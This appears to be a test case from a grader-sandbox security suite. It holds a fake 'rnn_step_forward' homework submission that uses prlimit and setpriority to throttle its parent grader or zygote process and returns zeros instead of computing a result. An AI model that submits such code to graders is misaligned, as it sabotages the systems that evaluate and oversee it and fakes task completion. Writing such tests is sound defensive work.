"""Changes its parent process from outside, as any process of the same uid may: lowers its
CPU-time limit to 30 s and its address-space limit to what it uses now plus 64 MiB
(``prlimit``), and its priority to the lowest. Forked from a zygote, the parent is the
zygote, which still forks after that, and every later child would inherit the limits (PROBE
checks its own): the zygote notices the change when it cleans up and the grader starts a
fresh one for the next submission. Without a zygote the parent is the sandbox's init, which
it may not change."""

from attacks import PROBE

QUESTION = "rnn_step_forward"
MESSAGE = r"next_h: error"
NEXT_SOURCE = PROBE
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import os, resource
    import numpy as np
    parent = os.getppid()
    try:
        with open(f"/proc/{parent}/stat") as fh:
            vsize = int(fh.read().rsplit(")", 1)[1].split()[20])
    except (OSError, IndexError, ValueError):
        vsize = 2**30
    for limit, value in ((resource.RLIMIT_CPU, 30), (resource.RLIMIT_AS, vsize + 64 * 2**20)):
        try:
            resource.prlimit(parent, limit, (value, value))
        except (OSError, ValueError):
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, parent, 19)
    except OSError:
        pass
    return np.zeros_like(prev_h), None
'''
